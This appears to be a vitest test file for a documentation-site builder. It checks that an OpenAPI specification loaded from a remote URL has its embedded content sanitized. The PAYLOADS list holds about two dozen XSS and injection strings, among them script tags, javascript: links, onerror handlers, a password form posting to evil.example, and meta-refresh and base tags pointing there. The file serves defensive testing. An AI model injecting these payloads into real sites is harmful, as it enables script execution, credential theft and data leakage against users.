import { beforeAll, describe, expect, test } from 'vitest';
import { buildInMemory } from './build-in-memory.ts';

const PAYLOADS: [name: string, content: string][] = [
  ['a script', '<script>PWNED()</script>'],
  ['a script by address', '<script src="https://evil.example/PWNED.js"></script>'],
  ['a document in a frame', '<iframe srcdoc="<script>PWNED()</script>"></iframe>'],
  ['a frame', '<iframe src="https://evil.example/PWNED"></iframe>'],
  [
    'an island',
    'export const X = () => { const [n] = useState(0); return <b onClick={() => PWNED(n)}>x</b>; };\n\n<X />',
  ],
  ['an island in an expression', '{(() => { window.PWNED = 1; return new Date(); })()}'],
  ['a handler', '<button onClick={() => PWNED()}>x</button>'],
  ['a handler as text', '<img src="x" onerror="PWNED()" />'],
  ['HTML in a prop', '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=PWNED()>" }} />'],
  ['HTML as an icon', '<Card title="x" icon="<svg><script>PWNED()</script></svg>" />'],
  ['HTML as an icon, in JSX', '<Card title="x" icon={<svg><script>PWNED()</script></svg>} />'],
  ['an animated address', '<svg><a><animate attributeName="href" values="javascript:PWNED()" /></a></svg>'],
  ['an address that runs', '<a href="javascript:PWNED()">x</a>'],
  ['an address that runs, of a card', '<Card title="x" href="java&#x09;script:PWNED()" />'],
  ['a form', '<form action="https://evil.example/PWNED"><input name="password" /></form>'],
  ['a style', '<style>body { background: url(https://evil.example/PWNED) }</style>'],
  ['a cover over the page', '<div style="position:fixed;inset:0" className="PWNED">x</div>'],
  [
    'a cover by a component',
    '<Card title="x" style={{ position: "fixed", "--x": "PWNED" }} className="PWNED" />',
  ],
  ['an id of ours', '<div id="PWNED">x</div>'],
  ['a refresh', '<meta httpEquiv="refresh" content="0;url=https://evil.example/PWNED" />'],
  ['a base', '<base href="https://evil.example/PWNED/" />'],
  ['an object', '<object data="https://evil.example/PWNED"></object>'],
  ['an embedded document', '<embed src="https://evil.example/PWNED" />'],
  ['a custom element', '<x-PWNED is="PWNED">x</x-PWNED>'],
  ['a file of the repository', "import secret from '/secret.mdx'\n\n{secret}"],
  ['a component of the repository', "import { Leak } from '/snippets/leak.jsx'\n\n<Leak />"],
  ['a snippet of the repository', '<Snippet file="leak.mdx" />'],
];

const HARMLESS =
  '## Limits\n\n<Note>Use **one** key.</Note>\n\n<table><tr><td colSpan="2">x</td></tr></table>';

const FILES = {
  'index.mdx': '---\ntitle: Start\n---\nHello.',
  'secret.mdx': 'PWNED',
  'snippets/leak.mdx': 'PWNED',
  'snippets/leak.jsx': 'export const Leak = () => <b>PWNED</b>;',
};

/** The pages of a specification with one operation for each text. */
async function pagesOf(source: string, contents: readonly string[]): Promise<(index: number) => string> {
  const operations = contents.map((content, index) => [
    `/op${index}`,
    { get: { summary: `op${index}`, 'x-svc': { content }, responses: {} } },
  ]);
  const spec = JSON.stringify({
    openapi: '3.1.0',
    info: { title: 'API', version: '1' },
    paths: Object.fromEntries(operations),
  });
  const site = await buildInMemory(
    {
      ...FILES,
      ...(source.startsWith('http') ? {} : { [source]: spec }),
      'docs.json': {
        name: 'Docs',
        colors: { primary: '#123456' },
        navigation: { groups: [{ group: 'API', pages: ['index'], openapi: source }] },
      },
    },
    { offline: true, specStore: { read: () => Buffer.from(spec), write: () => {} } },
  );
  return (index) => site.text(`api-reference/op${index}/index.html`)!;
}

describe('a specification by URL is not trusted', () => {
  let pageOf: (index: number) => string;
  beforeAll(async () => {
    const contents = PAYLOADS.map(([, content]) => `Before.\n\n${content}\n\nAfter.`);
    pageOf = await pagesOf('https://evil.example/openapi.json', [...contents, HARMLESS]);
  }, 60_000);

  test.each(PAYLOADS.map(([name], index) => [name, index] as const))(
    '%s leaves nothing behind',
    (_, index) => {
      const page = pageOf(index);
      expect(page).toMatch(/Before\.[\s\S]*After\./);
      const shownAsText = page.replace(/&lt;[^<]*|<code[^>]*>[^<]*<\/code>/g, '');
      expect(shownAsText).not.toContain('PWNED');
    },
  );

  test('keeps its Markdown and the components of the theme', () => {
    const page = pageOf(PAYLOADS.length);
    expect(page).toMatch(/<h2[^>]*>[\s\S]*Limits/);
    expect(page).toContain('<strong>one</strong>');
    expect(page).toContain('<td colspan="2">');
  });

  test('is as trusted as a page if it is in the repository', async () => {
    const ours = await pagesOf('openapi.json', ['<script>OURS()</script>']);
    expect(ours(0)).toContain('<script>OURS()</script>');
  });
});
